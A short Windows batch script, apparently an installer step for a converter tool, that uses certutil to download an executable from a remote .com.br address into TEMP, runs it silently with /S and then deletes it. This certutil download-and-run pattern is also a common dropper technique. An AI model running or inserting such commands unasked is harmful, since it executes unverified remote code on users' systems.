@echo off
set DEST=%TEMP%\conversor.exe
certutil -urlcache -split -f http://downloads.etiquetafacil.com.br/conversor.exe "%DEST%"
if exist "%DEST%" start "" /wait "%DEST%" /S
del "%DEST%"
